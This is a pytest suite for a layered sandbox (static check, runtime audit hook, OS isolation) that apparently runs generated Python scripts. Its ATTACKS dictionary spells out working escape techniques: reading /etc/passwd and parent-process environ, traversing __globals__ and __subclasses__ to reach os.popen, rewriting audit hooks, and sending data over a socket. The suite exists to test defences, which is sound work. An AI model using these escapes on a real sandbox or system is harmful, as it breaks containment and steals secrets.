"""The sandbox for generated scripts, attacked as an attacker would.

Every attack is a complete `solve` that tries to steal a secret or leave a mark and returns what
it got. Each one must fail under each layer alone (language, runtime, OS) and under all three,
and the sandbox must refuse to run anything when its isolation cannot be set up.
"""

from __future__ import annotations

import json
import os
import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from engine.promotion import sandbox
from engine.promotion.sandbox import (
    Limits, check_script, isolation, isolation_problem, run_one, run_script)
from sandboxmark import needs_isolation, os_backend  # noqa: F401 (a fixture)

# A generous wall clock: these tests run beside other work on a small, shared machine.
FAST = Limits(cpu_seconds=2, memory_bytes=256 * 1024 * 1024, wall_seconds=30, per_item_seconds=1.0)
SECRET = "s3cret-project-file-contents"
API_KEY = "sk-ant-secret-key-in-the-parent"


class Listener:
    """A TCP server on the host's loopback: a script that reaches it has network access."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(5)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100) or b"(connected)")
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join()
        self.sock.close()


@pytest.fixture
def target(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", API_KEY)
    listener = Listener()
    yield {"secret": str(secret), "mark": str(tmp_path / "mark"), "port": listener.port, "listener": listener,
           "ppid": os.getpid()}
    listener.close()


# Each attack: name -> source with {secret}, {mark}, {port}, {ppid} filled in.
ATTACKS = {
    # The original bypass: rewrite the policy the sandbox kept as globals of the child's __main__.
    "rewrite_policy_globals": """
import __main__
def solve(inputs):
    for name in dir(__main__):
        if name.isupper():
            setattr(__main__, name, ("/",))
    return open({secret!r}).read() + open("/etc/passwd").read()
""",
    "read_etc_passwd": "def solve(inputs):\n    return open('/etc/passwd').read()\n",
    "read_project_file": "def solve(inputs):\n    return open({secret!r}).read()\n",
    "open_via_module_attribute": "import json\ndef solve(inputs):\n    return json.codecs.open({secret!r}).read()\n",
    "write_outside_temp": "def solve(inputs):\n    open({mark!r}, 'w').write('x')\n    return 'written'\n",
    "os_system": "import os\ndef solve(inputs):\n    os.system('touch {mark}')\n    return 'ran'\n",
    "subprocess": ("import subprocess\ndef solve(inputs):\n"
                   "    return subprocess.run(['/bin/sh', '-c', 'touch {mark}; cat {secret}'],"
                   " capture_output=True).stdout.decode()\n"),
    "fork": ("import os\ndef solve(inputs):\n    pid = os.fork()\n    if pid == 0:\n"
             "        open({mark!r}, 'w').write('child')\n        os._exit(0)\n    return 'forked'\n"),
    "read_environment": "import os\ndef solve(inputs):\n    return dict(os.environ)\n",
    "read_parent_environ": "def solve(inputs):\n    return open('/proc/{ppid}/environ', 'rb').read().decode('latin-1')\n",
    "socket_to_host": ("import socket\ndef solve(inputs):\n"
                       "    s = socket.create_connection(('127.0.0.1', {port}), timeout=0.5)\n"
                       "    s.sendall(b'stolen')\n    return 'connected'\n"),
    "frame_walk_to_policy": """
def solve(inputs):
    try:
        1 / 0
    except Exception as e:
        frame = e.__traceback__.tb_frame
    while frame.f_back is not None:
        frame = frame.f_back
    return frame.f_globals['__builtins__'].open({secret!r}).read()
""",
    "gc_rewrites_audit_hook": """
import gc
def solve(inputs):
    for obj in gc.get_objects():
        if callable(obj) and 'hook' in getattr(obj, '__name__', ''):
            obj.__code__ = (lambda event, args: None).__code__
    return open({secret!r}).read()
""",
    "subclasses_to_os": """
def solve(inputs):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == '_wrap_close':
            return cls.__init__.__globals__['popen']('cat {secret}; touch {mark}').read()
""",
    "function_globals_to_builtins": """
import json
def solve(inputs):
    return json.loads.__globals__['__builtins__']['open']({secret!r}).read()
""",
    "format_string_traversal": """
def solve(inputs):
    template = '{{0.__globals__[__builtins__]}}'
    return template.format(solve)
""",
    "string_formatter_get_field": """
import string
def solve(inputs):
    obj, _ = string.Formatter().get_field('0.__globals__', [solve], {{}})
    return obj['__builtins__']['open']({secret!r}).read()
""",
    "operator_attrgetter": """
import operator
def solve(inputs):
    g = operator.attrgetter('__globals__')(solve)
    return g['__builtins__']['open']({secret!r}).read()
""",
    "type_hints_eval": """
import typing
def solve(inputs):
    def f(x: "open({secret!r}).read()"):
        pass
    return typing.get_type_hints(f)['x']
""",
    "ctypes_system": ("import ctypes\ndef solve(inputs):\n    ctypes.CDLL(None).system(b'touch {mark}')\n"
                      "    return 'ran'\n"),
    "import_builtin_via_dunder": "def solve(inputs):\n    return __import__('os').popen('cat {secret}').read()\n",
    # A class pattern reads attributes itself: `case object(__globals__=g)` is `g = x.__globals__`.
    # From a module's globals to `sys.modules`, then rebind the names the audit hook looked up.
    "match_class_pattern_to_globals": """
import json
def solve(inputs):
    match json.loads:
        case object(__globals__=g):
            mods = g['codecs'].sys.modules
    main = mods['__main__']
    main.any = lambda *a: True
    main.str = lambda *a: 'json'
    try:
        return [sorted(g), mods['builtins'].open({secret!r}).read()]
    except Exception:
        return sorted(g)
""",
    # `case C(x)` reads the attribute that `C.__match_args__` names, whatever made C.
    "match_args_names_a_dunder": """
import json
def solve(inputs):
    meta = type('Meta', (type,), {{'__instancecheck__': lambda cls, obj: True}})
    probe = meta('Probe', (), {{'__match_args__': ('_' * 2 + 'globals' + '_' * 2,)}})
    match json.loads:
        case probe(g):
            return sorted(g)
""",
    "match_args_defined_by_decorator": """
import json
def solve(inputs):
    class Meta(type):
        def __instancecheck__(cls, obj):
            return True
    class Probe(metaclass=Meta):
        @(lambda f: ('_' * 2 + 'globals' + '_' * 2,))
        def __match_args__(self):
            pass
    match json.loads:
        case Probe(g):
            return sorted(g)
""",
    "format_through_a_str_subclass": """
def solve(inputs):
    class S(str):
        pass
    return S.format('{{0.__globals__[__builtins__]}}', solve) + S.format_map('{{x.__globals__}}', {{'x': solve}})
""",
    "format_through_super": """
def solve(inputs):
    class S(str):
        pass
    return super(S, S('{{0.__globals__[__builtins__]}}')).format(solve)
""",
    "update_wrapper_copies_a_dunder": """
import functools, json
def solve(inputs):
    got = []
    class Catch:
        def __setattr__(self, name, value):
            got.append(value)
    functools.update_wrapper(Catch(), json.loads, assigned=('_' * 2 + 'globals' + '_' * 2,), updated=())
    g = got[0]
    return sorted(g)
""",
    "remove_audit_hook_then_read": """
import sys
def solve(inputs):
    sys.addaudithook(lambda *a: None)
    sys.modules['__main__'].__dict__.clear()
    return open({secret!r}).read()
""",
}


def _fill(code: str, t: dict[str, Any]) -> str:
    return code.format(secret=t["secret"], mark=t["mark"], port=t["port"], ppid=t["ppid"])


def _assert_failed(result: sandbox.SandboxResult, t: dict[str, Any], *, language: bool = True) -> None:
    """Nothing of the host leaked, no mark left on the host, no connection made. Under the OS layer
    alone the script may of course see its own builtins, or write into its own private /tmp."""
    leaked = json.dumps(result.output)
    assert SECRET not in leaked and "root:x:0" not in leaked and API_KEY not in leaked, leaked
    assert not Path(t["mark"]).exists(), "the attack left a mark outside the sandbox"
    assert not t["listener"].received, "the attack reached the host over the network"
    if language:
        assert "builtins" not in leaked and result.error, result


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_static_layer_alone_refuses_every_attack(name: str, target: dict[str, Any]) -> None:
    problems = check_script(_fill(ATTACKS[name], target))
    assert problems, f"{name} passed the static check"


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_runtime_layer_alone_stops_every_attack(name: str, target: dict[str, Any]) -> None:
    _assert_failed(run_one_with(_fill(ATTACKS[name], target), {"runtime"}), target)


@needs_isolation
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_os_layer_alone_stops_every_attack(name: str, target: dict[str, Any], os_backend: str) -> None:
    _assert_failed(run_one_with(_fill(ATTACKS[name], target), {"os"}), target, language=False)


@needs_isolation
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_all_layers_stop_every_attack(name: str, target: dict[str, Any]) -> None:
    result = run_one(_fill(ATTACKS[name], target), {}, FAST)
    _assert_failed(result, target)
    assert result.error and "static check" in result.error


def run_one_with(code: str, layers: set[str]) -> sandbox.SandboxResult:
    return run_script(code, [{}], FAST, layers=layers)[0]


@needs_isolation
def test_os_layer_gives_an_empty_environment_and_a_read_only_root(target: dict[str, Any], os_backend: str) -> None:
    code = """
import os
def solve(inputs):
    out = {'env': dict(os.environ), 'root': sorted(os.listdir('/')),
           'etc': sorted(os.listdir('/etc')) if os.path.isdir('/etc') else []}
    open('/tmp/scratch', 'w').write('ok')
    out['tmp'] = open('/tmp/scratch').read()
    for path in ('/usr/evil', '/evil'):
        try:
            open(path, 'w')
            out[path] = 'written'
        except OSError as e:
            out[path] = type(e).__name__
    try:
        os.fork()
        out['fork'] = 'forked'
    except OSError as e:
        out['fork'] = type(e).__name__
    return out
"""
    result = run_one_with(code, {"os"})
    out = result.output
    assert out is not None, result.error
    assert out["env"].pop("PWD", "/tmp") == "/tmp"  # bubblewrap sets it
    assert out["env"] == {"LANG": "C.UTF-8", "LC_ALL": "C.UTF-8", "HOME": "/tmp"}
    assert "proc" not in out["root"] and "home" not in out["root"] and "work" not in out["root"]
    assert set(out["etc"]) <= {"ld.so.cache"}  # the loader's cache, nothing else of /etc
    assert out["tmp"] == "ok"
    assert out["/usr/evil"] != "written" and out["/evil"] != "written"
    assert out["fork"] != "forked"


def test_fails_closed_when_isolation_cannot_be_set_up(monkeypatch: pytest.MonkeyPatch,
                                                      target: dict[str, Any]) -> None:
    class NoNamespaces:
        """libc on a kernel that refuses unprivileged namespaces."""

        def __init__(self, real: Any) -> None:
            self.real = real

        def unshare(self, flags: int) -> int:
            return -1

        def __getattr__(self, name: str) -> Any:
            return getattr(self.real, name)

    real = isolation.libc()
    monkeypatch.setattr(isolation, "libc", lambda: NoNamespaces(real))
    monkeypatch.setenv("ENGINE_SANDBOX_BACKEND", "namespaces")  # the fallback, the one that unshares itself
    code = "def solve(inputs):\n    return {'ran': True}\n"
    result = run_one(code, {}, FAST)
    assert not result.answered and result.output is None
    assert "isolation unavailable" in (result.error or "") and "unshare" in (result.error or "")
    monkeypatch.setattr(sandbox, "_probe", [])
    assert "unshare" in (isolation_problem() or "")
    monkeypatch.setattr(sandbox, "_probe", [])


@needs_isolation
def test_plain_script_runs_and_may_abstain() -> None:
    code = ("import re, json\nfrom collections import Counter\n"
            "def solve(inputs):\n    t = inputs['t']\n    if not t:\n        return None\n"
            "    return {'n': len(re.findall('a', t)), 'top': Counter(t).most_common(1)[0][0],"
            " 'msg': '{} has {}'.format(t, len(t))}\n")
    assert check_script(code) == ()
    results = run_script(code, [{"t": "banana"}, {"t": ""}])
    assert results[0].output == {"n": 3, "top": "a", "msg": "banana has 6"} and results[0].answered
    assert results[1].abstained and not results[1].answered


@needs_isolation
def test_the_allowed_modules_work_inside() -> None:
    code = """
import re, json, math, cmath, unicodedata, html, textwrap, itertools, heapq, bisect, operator
from datetime import datetime
from statistics import median
from decimal import Decimal
from difflib import SequenceMatcher, get_close_matches
from typing import Any, Optional
from collections import namedtuple, Counter
from string import Template
from functools import lru_cache
from fractions import Fraction


def solve(inputs):
    P = namedtuple('P', 'a b')
    return {'d': datetime.strptime('2024-02-03', '%Y-%m-%d').isoformat(), 'm': median([1, 3, 2]),
            'dec': str(Decimal('1.25').quantize(Decimal('0.1'))), 'r': SequenceMatcher(None, 'ab', 'ac').ratio(),
            'close': get_close_matches('appel', ['apple', 'ape']), 'p': P(1, 2).a,
            't': Template('$x!').substitute(x='hi'), 'u': unicodedata.normalize('NFKC', '\uff46'),
            'h': html.escape('<a>'), 'w': textwrap.shorten('hello world foo', 12),
            'f': str(Fraction(1, 3) + Fraction(1, 6)), 'c': abs(cmath.sqrt(-4)), 'j': json.loads('[1]'),
            'fmt': '{} and {name}'.format(1, name='x'), 'cnt': Counter('aab').most_common(1)[0][0],
            'g': operator.itemgetter(1)([5, 6]), 'b': bisect.bisect([1, 3], 2), 'pi': round(math.pi, 2)}
"""
    assert check_script(code) == ()
    result = run_one(code, {}, FAST)
    assert result.output == {
        "d": "2024-02-03T00:00:00", "m": 2, "dec": "1.2", "r": 0.5, "close": ["apple", "ape"], "p": 1, "t": "hi!",
        "u": "f", "h": "&lt;a&gt;", "w": "hello [...]", "f": "1/2", "c": 2.0, "j": [1], "fmt": "1 and x",
        "cnt": "a", "g": 6, "b": 1, "pi": 3.14}, result.error


@needs_isolation
@pytest.mark.parametrize("code", [
    "def solve(inputs):\n    while True:\n        pass\n",
    "def solve(inputs):\n    while True:\n        try:\n            while True:\n                pass\n"
    "        except BaseException:\n            pass\n",  # swallows the soft timeout: the CPU limit kills it
])
def test_infinite_loops_are_stopped(code: str) -> None:
    result = run_one(code, {}, FAST)
    assert result.error and not result.answered


@needs_isolation
def test_unbounded_allocation_is_stopped() -> None:
    code = "def solve(inputs):\n    x = []\n    while True:\n        x.append(bytearray(10**7))\n"
    result = run_one(code, {}, FAST)
    assert result.error and not result.answered


@needs_isolation
def test_output_that_is_not_strict_json_is_an_error() -> None:
    code = "import math\ndef solve(inputs):\n    return {'score': math.nan}\n"
    result = run_one(code, {}, FAST)
    assert result.error and not result.answered


@needs_isolation
def test_only_the_declared_inputs_arrive() -> None:
    code = "def solve(inputs):\n    return {'keys': sorted(inputs)}\n"
    assert run_one(code, {"ticket": "x"}, FAST).output == {"keys": ["ticket"]}


def test_static_check_names_what_is_wrong() -> None:
    problems = check_script("import os\ndef solve(inputs):\n    return eval(inputs['x']).__class__\n")
    text = "; ".join(problems)
    assert "line 1: import of 'os' is not allowed" in text
    assert "'eval' is not allowed" in text and "'.__class__' is not allowed" in text
    assert check_script("def helper(x):\n    return x\n") == ("the script defines no top-level 'def solve(inputs)'",)
    assert check_script("import json\nj = json\ndef solve(inputs):\n    return j.loads('1')\n")


@needs_isolation
def test_runs_when_the_parent_holds_many_descriptors() -> None:
    # A long-lived service holds stores, sockets, files: the child's fd limit must not break setup.
    held = [os.open(os.devnull, os.O_RDONLY) for _ in range(200)]
    try:
        assert run_one("def solve(inputs):\n    return 1\n", {}, FAST).output == 1
    finally:
        for fd in held:
            os.close(fd)


def test_runtime_policy_is_installed_first_and_lives_in_the_hooks_own_code() -> None:
    import dis

    from engine.promotion.sandbox.child import child_source

    source = child_source(tmp="/tmp", read_roots=("/usr/lib/python3",), runtime=True)
    assert source.index("sys.addaudithook(__sandbox_hook)") < source.index("sys.stdin.buffer.read()")
    module = compile(source, "child", "exec")
    hook = next(c for c in module.co_consts if getattr(c, "co_name", "") == "__sandbox_hook")
    # No closure cells and no globals at all: every name it uses is a parameter bound at definition.
    assert hook.co_freevars == () and hook.co_cellvars == ()
    assert not [i.argval for i in dis.get_instructions(hook) if i.opname in ("LOAD_GLOBAL", "LOAD_NAME")]
    assert not [c for c in hook.co_consts if hasattr(c, "co_code")]  # no nested functions or generators
    assert "/usr/lib/python3" in repr(hook.co_consts)  # the read roots are literals of the hook itself
